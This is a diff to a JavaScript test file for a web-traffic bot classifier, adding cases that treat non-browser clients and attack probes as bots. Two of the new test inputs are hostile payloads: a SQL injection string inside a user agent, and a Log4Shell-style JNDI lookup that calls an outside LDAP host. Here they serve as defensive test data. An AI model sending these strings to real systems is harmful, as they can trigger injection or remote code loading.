@@ -33,6 +33,12 @@ describe('bot step', () => {
     expect(verdict({ userAgent: CHROME_UA, ...signals({ webdriver: true }) })).toBe('bot');
   });
 
+  it('drops non-browser clients and probes posing as the tracker', () => {
+    expect(verdict({ userAgent: 'Go-http-client/1.1' })).toBe('bot');
+    expect(verdict({ userAgent: 'Mozilla/5.0' })).toBe('bot');
+    expect(verdict({ userAgent: "Mozilla/5.0' UNION SELECT NULL,NULL--" })).toBe('bot');
+  });
+
   it('drops browser requests missing headers every browser sends', () => {
     expect(verdict({ userAgent: '' })).toBe('bot');
     expect(verdict({ userAgent: CHROME_UA, ...signals({ hasAcceptLanguage: false }) })).toBe('bot');
@@ -43,5 +49,8 @@ describe('bot step', () => {
     expect(verdict(server)).toBe('human');
     expect(verdict(server, { client_user_agent: CHROME_UA })).toBe('human');
     expect(verdict(server, { client_user_agent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)' })).toBe('bot');
+    // A native app's user agent passed on by its backend is no browser's, and no bot either; a probe is.
+    expect(verdict(server, { client_user_agent: 'MyApp/1.2 CFNetwork/1490 Darwin/23.2.0' })).toBe('human');
+    expect(verdict(server, { client_user_agent: '\u0024{jndi:ldap://203.0.113.5/a}' })).toBe('bot');
   });
 });
